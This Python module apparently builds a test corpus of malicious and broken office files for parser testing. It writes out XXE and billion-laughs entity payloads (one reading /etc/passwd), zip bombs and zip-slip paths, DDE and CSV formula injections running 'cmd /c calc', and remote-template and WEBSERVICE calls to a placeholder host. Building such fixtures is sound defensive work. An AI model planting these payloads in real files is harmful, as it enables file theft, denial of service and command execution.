"""Files made to do harm, small on a disk, and files that came to harm."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Iterator

import docx
import openpyxl
from papers import TITLE, write_csv, write_xlsx
from papers_of_formats import PAPER, paper
from settling import settle
from sheet_writers import write_xls
from writers import rewrite_zip, save, write_compound, write_docx, write_xlsb, write_zip

SHEET = "xl/worksheets/sheet1.xml"
NAMES = "urn:oasis:names:tc:opendocument:xmlns:"
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
DECLARATIONS = {
    "bomb": f'<!DOCTYPE a [<!ENTITY a0 "ha">{LAUGHS}]>',
    "file-of-this-machine": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "address-elsewhere": '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">',
}
DDE = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink></externalLink>'
)


def make() -> Iterator[tuple[str, bytes]]:
    """(path in the corpus, content) of every file of this part."""
    for name, data in (*_archives(), *_xml(), *_sizes(), *_links(), *_faults()):
        yield f"harm/{name}", data


def _part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _archives() -> Iterator[tuple[str, bytes]]:
    bomb = settle(rewrite_zip(paper(), {"xl/media/image1.xml": b"<a>" + b" " * (24 * 1024**2) + b"</a>"}))
    yield "zip-that-grows.xlsx", bomb
    yield "zip-that-lies-about-its-size.xlsx", _lying(bomb)
    inner = settle(write_zip({"a.xml": bytes(1024**2)}))
    for _ in range(3):
        inner = settle(write_zip({f"{n}.zip": inner for n in range(10)}))
    yield "zip-in-zip.xlsx", inner
    elsewhere = {"../../../outside.txt": b"x", "/tmp/outside.txt": b"x", "C:\\outside.txt": b"x"}
    yield "names-that-point-elsewhere.xlsx", settle(rewrite_zip(paper(), elsewhere))
    yield "names-that-point-elsewhere.docx", settle(rewrite_zip(_document(), elsewhere))
    locked = bytearray(settle(paper()))
    locked[locked.find(b"PK\x01\x02") + 8] |= 1
    yield "member-with-a-password.xlsx", bytes(locked)


def _lying(data: bytes) -> bytes:
    """The directory calls the large member small, and there is enough beside it to count more closely."""
    lying = bytearray(data)
    for match in re.finditer(rb"PK\x01\x02", data):
        if struct.unpack_from("<I", data, match.start() + 24)[0] > 1024**2:
            struct.pack_into("<I", lying, match.start() + 24, 10)
    return bytes(lying)


def _document() -> bytes:
    return write_docx([("Bảng", [["Nội dung", "Thực hiện"], ["Tổng số xã", "139"], ["Tổng số huyện", "10"]])], TITLE)


def _xml() -> Iterator[tuple[str, bytes]]:
    sheet, text = _part(paper(), SHEET).decode(), _part(_document(), "word/document.xml").decode()
    for name, declared in DECLARATIONS.items():
        changed = rewrite_zip(paper(), {SHEET: _declare(sheet, declared)})
        yield f"entities-{name}.xlsx", settle(changed)
        yield f"entities-{name}.docx", settle(rewrite_zip(_document(), {"word/document.xml": _declare(text, declared)}))
    deep = "<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000
    nested = f'<w:document xmlns:w="w"><w:body>{deep}</w:body></w:document>'
    yield "tables-in-tables.docx", settle(rewrite_zip(_document(), {"word/document.xml": nested.encode()}))
    template = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>'
    )
    yield (
        "template-elsewhere.docx",
        settle(rewrite_zip(_document(), {"word/_rels/settings.xml.rels": template.encode()})),
    )


def _declare(xml: str, declared: str) -> bytes:
    body = xml.partition("?>")[2] if xml.startswith("<?xml") else xml
    return f'<?xml version="1.0" encoding="utf-8"?>{declared}{body}'.encode()


def _sizes() -> Iterator[tuple[str, bytes]]:
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    sheet = _part(paper(), SHEET)
    yield "cell-at-the-far-corner.xlsx", settle(rewrite_zip(paper(), {SHEET: sheet.replace(b"</sheetData>", corner)}))
    claims = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    yield "dimension-that-lies.xlsx", settle(rewrite_zip(paper(), {SHEET: claims}))
    yield "cell-at-the-far-corner.xlsb", settle(write_xlsb({"A": {(0, 0): "x", (1_048_575, 16_383): "y"}}))
    row = (
        '<t:table-row t:number-rows-repeated="999999999"><t:table-cell o:value-type="float" o:value="1"/></t:table-row>'
    )
    content = (
        f'<o:document-content xmlns:o="{NAMES}office:1.0" xmlns:t="{NAMES}table:1.0"><o:body><o:spreadsheet>'
        f'<t:table t:name="A">{row}{row}</t:table></o:spreadsheet></o:body></o:document-content>'
    )
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    yield "rows-repeated-without-end.ods", settle(write_zip({"mimetype": mime, "content.xml": content}))
    document = docx.Document()
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0)._tc.grid_span = 5_000
    yield "cell-of-absurd-span.docx", settle(save(document))
    yield "cell-at-the-far-corner.xls", write_xls({"A": {(0, 0): "x", (65_535, 60_000): "y"}})
    rows = [["Nội dung", "ĐVT", "Thực hiện"], *([f"Chỉ tiêu lạ số {n}", "ha", n] for n in range(1_200))]
    rows[1:1] = [["Tổng số xã", "xã", 139], ["Tổng số huyện", "huyện", 10]]
    yield "thousand-rows-of-another-world.csv", write_csv([*([line] for line in TITLE), *rows])
    whole = write_compound({"Workbook": b"\x09\x08"})
    yield "table-of-sectors-that-lies.xls", whole[:44] + b"\xff\xff\xff\x7f" + whole[48:1024]


def _links() -> Iterator[tuple[str, bytes]]:
    other = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    yield "link-to-another-workbook.xlsx", settle(rewrite_zip(paper(), {"xl/externalLinks/externalLink1.xml": other}))
    yield "dde-link.xlsx", settle(rewrite_zip(paper(), {"xl/externalLinks/externalLink1.xml": DDE.encode()}))
    calls = [["=cmd|'/c calc'!A1", "", ""], ["@SUM(1)", "", ""]]
    table = [
        ["Nội dung", "ĐVT", "Thực hiện"],
        ["Tổng số xã", "xã", "=cmd|'/c calc'!A1"],
        ["Tổng số huyện", "huyện", "10"],
    ]
    yield "formulas-in-a-text.csv", write_csv([*([line] for line in TITLE), *table, [], *calls])
    book = openpyxl.load_workbook(io.BytesIO(paper()))
    sheet = book.active
    sheet["D4"], sheet["D5"] = '=WEBSERVICE("http://192.0.2.1/")', "=1/0"  # nobody computed them
    stream = io.BytesIO()
    book.save(stream)
    yield "formulas-never-computed.xlsx", settle(stream.getvalue())


def _faults() -> Iterator[tuple[str, bytes]]:
    whole = settle(paper())
    yield "half-copied.xlsx", whole[: len(whole) // 2]
    yield "end-missing.xlsx", whole[:-30]
    yield "half-copied.docx", settle(_document())[:6000]
    sheet = _part(paper(), SHEET)
    yield "sheet-cut-in-the-middle.xlsx", settle(rewrite_zip(paper(), {SHEET: sheet[: len(sheet) // 2]}))
    yield "list-of-sheets-missing.xlsx", settle(rewrite_zip(paper(), {"xl/workbook.xml": None}))
    yield "error-values.xlsx", settle(_with_error())
    yield "empty-workbook.xlsx", settle(write_xlsx({"Sheet1": []}))
    texts = [["Chỉ tiêu", "Giá trị"], ["Tổng số xã", True], ["Tổng số huyện", "12.13.14"]]
    yield "truth-values-and-nonsense.xlsx", settle(write_xlsx({"Sheet1": [*([line] for line in TITLE), *texts]}))


def _with_error() -> bytes:
    sheet = _part(paper(), SHEET)
    changed = re.sub(rb'<c r="D5"[^>]*><v>9200.5</v></c>', b'<c r="D5" t="e"><v>#DIV/0!</v></c>', sheet)
    assert changed != sheet, PAPER
    return rewrite_zip(paper(), {SHEET: changed})
